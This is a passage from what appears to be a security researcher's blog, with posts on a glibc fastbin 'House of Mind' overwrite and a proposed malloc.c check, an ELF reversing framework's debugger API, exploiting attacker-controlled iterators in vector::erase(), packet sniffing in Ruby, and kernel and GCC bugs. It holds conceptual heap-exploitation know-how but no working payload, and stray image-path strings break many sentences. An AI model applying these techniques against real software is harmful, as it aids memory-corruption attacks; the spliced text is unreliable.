situation, but it should still work in Glibc 2.11.

[4879] p->fd = *fb;
[4880] *fb = p; // This is how we get an arbitrary 4 byte overwrite

Perhaps more importantly then what does work is what will fix it. Because this technique is somewhat unreliable it may not make sense to further burden the allocator with yet another integrity check. But we should explore our options. We could try to stop all arena based attacks by inspecting where the arena itself resides, but this is a rather clumsy way of approaching the problem, and with ASLR enabled, it probably won't be too successful. A better solution might be to first check whether the chunk 'fb' points to contains a valid forward pointer to the next chunk in its list. But fastbin pointers are only singly linked, thus a subsequent check of the next chunks bwk pointer would not work. The reason they are not doubly linked is because they are never removed from these lists and consolidated with other free chunks, this of course helps performance of smaller, frequently allocated/free'd chunks. Another potential fix might be to check the current fastbin (the one that will be overwritten) entries chunk size, because the arena has tobe placed near/on the region of memory we want to overwrite, the attacker most likely can not control what the size is. This partially validates that the 1) the location is valid (its mapped) and 2) has a size between 0 and MAX_FASTBIN. It might look something like this:

--- malloc.c 2009-10-30 13:17:08.000000000 -0400
+++ malloc-a.c 2010-01-20 08:28:36.000000000 -0500
@@ -4852,6 +4852,12 @@
fb = &fastbin (av, fastbin_index(size));
+ if (*fb->size > get_max_fast())
+ {
+ errstr = "invalid fastbin entry (free)";
+ goto errout;
+ }
mchunkptr fd;
mchunkptr old = *fb;

This of course is not fool proof, but its the best I've come up with in the short time I've thought about it. After a private conversation with a friend of mine who coincidentally happens to be doing some similar research, I'm not sure the integrity of the fastbin can be %100 verified in its current form.

FWIW: I emailed Glibc maintainers with my idea (as bad as it is) and did not receive a response.

Further reading on the subject:
malloc.c diff showing the new changes
MallocMaleficarum - The original paper
Aware Article - A good overview of the House of Mind with example code
A real exploit utilizing the first House of Mind 'bins' techniqueFriday, July 03, 2009

Leaf - Hit Tracing

I just posted a new version of the Leaf framework. So I thought this might be a good time to blog on how to write and use a hit tracer using Leaf. Even though it is mostly a static analysis tool, the data it collects during this process is really useful to a debugger. I wanted a debug API and I wanted it fast, so a few versions ago I wrote a quick wrapper to Ptrace and put it into Leaf. It currently has only been tested for x86 Linux so there's work to be done in making it support BSD. I am always looking into other ways to make the debugging API cleaner, more useful and easier to code with, so please send any suggestions. So lets look at the steps needed to write a plugin that implements a hit tracer.

Here is what my basic hit tracer, 'lhit' (included with Leaf) implements:

1. LEAF_init() - a mandatory function that must be present in all plugins. You can use it to initialize any private data structures your plugin may need, or you can leave its function body blank.

2. LEAF_interactive() - this is the plugin hook a debugger would want to call. Ideally you only want *one* plugin calling this, it doesnt make sense to have more then one. If your plugin implements this hook it will be called after all other static analysis if finished, consider it your debugger plugins main()

3. LEAF_attach(pid_t) - takes a pid_t as its only argument and will attach the debugger to your target process.

4. LEAF_set_hittracer(pid_t, breakpoints_t, int) - this is where it gets slightly tricky. Your plugin must declare a structure somewhere of type breakpoints_t. Pass the targets pid, the breakpoints structure and flag (ON/OFF) to this function and Leaf will automatically use the vector of function addresses it collected duringstatic analysis and set breakpoints on each of them. There is no need for your plugin to manage any of this. There is also another function called LEAF_set_breakpoint, which takes a pid_t, a breakpoints_t structure, and the address you want to break on, you can use this for any other manual breakpoints you want to set.

5. LEAF_cont(pid_t) - this one is pretty self explanitory, it takes a pid_t as its only argument, and instructs the traced program to continue. At this point Leaf will handle calling wait() for you. All you have to do is inspect and handle the signal it returns. If you had used LEAF_set_hittracer and you hit one of the breakpoints it set then you will want to call LEAF_reinstall_breakpoint and Leaf will take care of putting the old instruction back, single stepping and reinstalling the breakpoint for you.

6. LEAF_get_regs(pid_t, user_regs_struct) - this will retrieve the processes registers for you.

7. LEAF_detach(pid_t) - will detach Leaf from your process.

8. LEAF_cleanup() - another mandatory plugin hook which you can use to free memory or close file descriptors, or you can leave it blank.

You will find an example hit tracer (lhit) which implements all of this in version 0.0.15 of Leaf here. Its not the best hit tracer in the world but it does the job. The debugger internals will be getting an overhaul soon, but the API should stay the same.

This new version of Leaf also contains my experimental LeafRub plugin which embeds a Ruby interpreter for scripting capabilities. An example LeafRub.rb script is also included, but I'llblog more about that later.

Saturday, June 20, 2009

Fun with erase()

Over the last few months I've been knee deep in C++, you can view this as good thing or a bad thing, I for one enjoy it. I personally like finding bugs in C++ applications, as they are usually more complex then plain old C and require a bit more thought:
  • Keeping track of what variables your destructor will take care of, and which it wont
  • Iterators, and what methods invalidate them
  • (insert your favorite C++ gotcha here)
While debugging a crash one day it occured to me that the security research community has paid very little attention to the STL and CPPism's in general. There are a few things out there like TAOSSA's delete vs delete[] and of course there is also Cert's secure coding standards. But there is very little written on exploring STL specific bugs. Maybe its all private and im just not cool enough to see it :/

I decided to document some ways STL specific bugs may be exploited. The first place I looked was containers, you know vectors/queues/lists etc... Any use of these containers probably means lots of interesting data is being stored, and considering they all have very easy-to-use methods even novice C++ developers were (ab)using them somewhere.
Most of these methods take in iterators (don't let the name fool you, they're just pointers), and tainted iterators have been a known bad thing for a long time (read certs secure coding standards). But where were the exploits? Where were the how-to's on owning an attacker influenced iterator? I decided to look into it myself.
I settled on using vectors as my first topic of interest, as they are widely used for their efficiency and ease of use. I further focused my efforts by looking at any methodthat added/moved/deleted multiple elements of data at a time from a container. The erase method seemed like a good candidate considering the amount of memorycopies that take place under the hood.
The erase method either takes a single position within the container and removes it, or it takes a range supplied by two iterators and deletes the elements within that range. But I needed to see what it looked like under the hood. After navigating the tangled mess that is the GNU C++ templates (this is probably the real reason no one has done a lot of STL security research) I was able to isolate the relevant erase() code and find what I was looking for.
This is where you are probably getting bored, so I'll skip ahead and just tell you why you care about any of this.
Tainted iterators are a known C++ gotcha that every code auditor should know about, but in certain situations they can lead to very interesting conditions for an exploit writer. The Cert secure coding standard begins to touch on the subject of invalid iterator ranges, but labels their 'undefined behavior' asequivalent to a buffer overflow. This is true, however it can be more then that depending onthe STL implementation. When an attacker can control the range iterators passed to erase() he may be able to leak or directly overwrite memory contents or even better he can trick the STL into resizing the container to encapsulate adjacent heap memory (think 'other containers'). This opens up all kinds of doors for creative exploitation.

I would love to post those details here, but blogger mangled my write up pretty bad. So I've uploaded it here. If you spot any inaccurate technical information please let me know.

Thursday, January 08, 2009


It's been awhile since I have posted. This blog is up to almost 500 subscribers somehow.

I posted a new project on googlecode. Leaf is an ELF reversing framework written in C. It has a built in API for developing your own analysis and output plugins. The current version (0.0.7) supports plugins written in C. The whole point of the project is flexibility in the analysis and output of the stuff your interested in. It's not just another text based disassembler, although a plugin that implements one can be easily written. In fact I released one with it and its available for download at the website. I am slowly releasing other plugins of varying quality. There are plenty of great tools for reversing on the Win32 platform, so there is no plan to support the PE format. If you want more information on it check out the googlecode link and look at the wiki.
It's still beta quality and there are definitely a few bugs. I hope you find it useful.

Update: Posted Leaf-0.0.10.tar.gz at http://leaf-re.googlecode.com It now uses udis86. Lots of work still to do, but its a start.

Wednesday, June 25, 2008

BitStruct is great

If you code in Ruby and do any binary parsing then you need to be using BitStruct. It makes C style structs in Ruby very easy. Sometimes you have to sniffa custom binary protocol the quick and dirty way, these are times I turn to Ruby instead of C. The Bitstruct release has some good examples of parsing network protocols but using raw sockets in Ruby is ugly. I prefer to use the LibPcap wrappers instead for the awesomeness of pcap filters.
require 'pcaplet'
require 'bit-struct'

# Fake protocol I made up for this example
class CustomProtocol < BitStruct
char :header, 64, :endian => :native
unsigned :length, 8, :endian => :native
unsigned :next_hdr, 16, :endian => :little
unsigned :next_tag, 16, :endian => :network
unsigned :type, 32, :endian => :native
rest :data

# Capture up to 1533 bytes
sniff =Pcaplet.new('-s 1533')

# Specific pcap filter so we only grab the protocol we are dissecting
pcap_filter = Pcap::Filter.new('tcp && port 34504 && src', sniff.capture)


for pkt in sniff
if pcap_filter =~ pkt
puts pkt
struct = CustomProtocol.new(pkt.tcp_data)
puts sprintf("ASCII Header: %s\tLength:%x\tNext Hdr: %x\tNext Tag: %x\tType: %x\tData: %s",
struct.header, struct.length, struct.next_hdr, struct.next_tag, struct.type, struct.data)

Tuesday, June 03, 2008

Known API's and automated static code analysis

I did some quick work a few weeks ago on automating static code analysis by using known API's to generate information about data structures and logic flow. The work is not ground breaking but I felt the techniques are quite useful and I wanted to document them clearly for myself and others. You can grab the short paper here.It's interesting that slides Halvar presented in 2004 on automating reverse engineering are entirely still relevant. He made a good point ... "no matter how stupid an analysis tool is, some programmers will make mistakes which are stupider". How true...

Friday, May 02, 2008

Self Protecting GOT

I had some time to kill over the past few days and I wanted to explore an idea I had a few months ago. The idea is to protect the ELF GOT (Global Offset Table) (and other segments of memory) from userland without the support of 'relro' functionality now found in the GNU dynamic linker. I accomplished it through techniques such as linker script modification and constructor functions. No kernel modifications are needed and I have tested it on a semi large project (Snort IDS).

You can find the draft version 1.1 of my writeup here. If you find any mistakes let me know and I will fix them.

Friday, April 18, 2008

kmemcheck and an old bug

I wanted to do a quick post about 'kmemcheck' because I think the concept is pretty cool. It'sa debugging patch in its 7th rev that is now proposed for the mainline Linux kernel in 2.6.26 and the idea is pretty simple but has lots of security uses...
"kmemcheck is a patch to the linux kernel that detects use of uninitialized memory. It does this by trapping every read and write to memory that was allocated dynamically (e.g. using kmalloc()). If a memory address is read that has not previously been written to, a message is printed to the kernel log."
The author provided a sample log file from the patch which is here. I spent a few minutes browsing it and I think it definitely shows promise for more than debugging. **Consider the case of these ELF loader vulnerabilities found by Paul Starzetz in 2004. Bug [1] is basically incorrect checking of the kernel_read() return value. Here's the bug:size = elf_ex.e_phnum * sizeof(struct elf_phdr);
elf_phdata = (struct elf_phdr *) kmalloc(size, GFP_KERNEL);
if (!elf_phdata)
goto out;

retval = kernel_read(bprm->file, elf_ex.e_phoff, (char *) elf_phdata, size);
if (retval < 0)
goto out_free_ph;


The code above makes the incorrect assumption that kernel_read() will return less than zero if an error occurs. This is true however kernel_read() can also return greater than zero but less than 'size'. Which in this case leaves a portion of elf_phdata uninitialized. Whats my point? I'm getting to that. An attacker can potentially control this uninitialized data and take control of a process image. Now this particular bug is pretty hard to trigger and even harder to exploit. But the important thing is kmemcheck may have caught this particular issue, and others like it. kmemcheck would fire off a log entry when the ELF loader goes to read the uninitialized data in elf_phdata because technically the attacker controlled data was never written to it in this context, its old 'left over' data. Very neat stuff.The kernel allocators are a bit more complex than malloc in userland though. The slab code has many small details about it that can make or break a kmalloc based vulnerability, but the concept here is very intriguing regardless. You can grab the kmemcheck patches here.

**As a side note, I took a quick look at linux/fs/binfmt_elf_fdpic.c and found this bug in virtually the same place as Paul found it and in an additional spot as well, where the program interpreter is loaded. They affect a small population and have already been fixed.

Wednesday, March 19, 2008

CLD/STD and GCC 4.3.0

Some of you may have seen this already. Its a very subtlebug that was exposed by GCC 4.3.0 that manifests itself in an interesting way. Heres a quick overview. In its latest version, GCC has changed a very small detail. Before version 4.3.0 GCC would insert a CLD (Clear Direction Flag) instruction before any inline string copy functions as shown below:

804de86: fc cld
804de87: f3 a4 rep movsb %ds:(%esi),%es:(%edi)
804de89: 89 c1 mov %eax,%ecx
804de8b: c1 e9 02 shr $0x2,%ecx

This instruction (CLD) clears a flag that determines which direction data should be written in (forward or backward). The flag itself is stored in the EFLAGS register. Clearing the flag with CLD sets the flag to 0 (forward). The STD instruction can then change this by setting the flag to 1 (backward). GCC no longer emits this instruction before inline string copies. This change is documented here. Technically this is right because the ABI states the direction flag should be cleared before entering any function (see page 38 under EFLAGS). The problem in this case is that the Linux kernel does not clear the flag when entering a signal handler. So in theory the flag is set to 1 for whatever reason and then a signal gets tripped and calls something like memcpy or memmove. Since the CLD instruction is no longer used inline the copy can
write data in the wrong direction. This can obviously lead to security issues. I put together some x86 example code for this based on the x86_64 version posted to LKML, you can find it here.
Hit Ctrl+C
Insignal handler...
DF = 1 (backward)In signal handler...
DF = 1 (backward)
In signal handler...
DF= 0 (forward)
In signal handler...
DF = 0 (forward)
In signal handler...
DF = 1 (backward)